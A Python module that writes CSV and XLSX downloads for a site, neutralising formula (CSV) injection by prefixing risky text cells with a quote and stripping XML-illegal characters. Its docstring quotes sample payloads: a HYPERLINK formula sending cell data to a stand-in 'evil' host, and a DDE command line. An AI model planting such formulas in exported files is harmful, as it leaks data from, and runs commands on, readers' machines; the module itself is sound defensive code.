"""The one writer of every CSV and XLSX the site hands out, safe to open in a spreadsheet.

Text in a download often comes from people outside the secretariat (a pledge's title, an
organisation's name, a note on an observation). A spreadsheet reads a cell that starts with
`=`, `+`, `-` or `@` as a formula, and tab or carriage return can hide such a start, so
`=HYPERLINK("http://evil/?"&A1, "click")` or `+cmd|' /C calc'!A0` would run on the reader's
machine ("CSV injection", or formula injection). Following OWASP's rule, text that starts with
one of those six characters gets a single quote before it, which makes the spreadsheet show it
as text. Numbers given as numbers (int, float, Decimal) are never changed: -5 stays -5. Text
that looks like a number is still text and is neutralised: "-5" comes out as "'-5", as we cannot
tell it from "-2+3+cmd|...".

Every CSV and XLSX download goes through this module: `csv_writer` for CSV, `xlsx_safe` on
each value put in an openpyxl workbook.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

# The characters OWASP lists as starting a formula (or hiding one's start).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Control characters XML 1.0 cannot hold: openpyxl refuses a workbook with any of them in a
# cell (tab, line feed and carriage return are allowed).
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value: object) -> object:
    """`value` with a `'` before it if it is text that a spreadsheet would take for a formula;
    anything that is not text (numbers, dates, None) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def xlsx_safe(value: object) -> object:
    """`value` ready for a cell of an openpyxl (write-only) workbook.

    openpyxl stores any text starting with `=` as a formula; text is neutralised as in a CSV
    (a workbook is often edited or saved as CSV, where the other starts come alive too), and
    stripped of the control characters XLSX cannot hold. Numbers unchanged.
    """
    if isinstance(value, str):
        return safe_cell(XML_ILLEGAL.sub("", value))
    return value


class CsvWriter:
    """csv.writer's writerow and writerows, each cell through `safe_cell`."""

    def __init__(self, out: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        """Write one row; returns what the output's write returned (for streaming)."""
        return self._writer.writerow([_csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **kwargs: Any) -> CsvWriter:
    """A CSV writer on `out` (csv.writer's options; lines end in "\\n" unless told)."""
    kwargs.setdefault("lineterminator", "\n")
    return CsvWriter(out, **kwargs)


def _csv_cell(value: object) -> object:
    if isinstance(value, Decimal):
        # Plain notation without trailing zeros: str() can give 1E+2 or 7.5000000000, and
        # normalize() rounds to 28 digits where a stored value may have 30.
        text = f"{value:f}"
        return text.rstrip("0").rstrip(".") if "." in text else text
    return safe_cell(value)
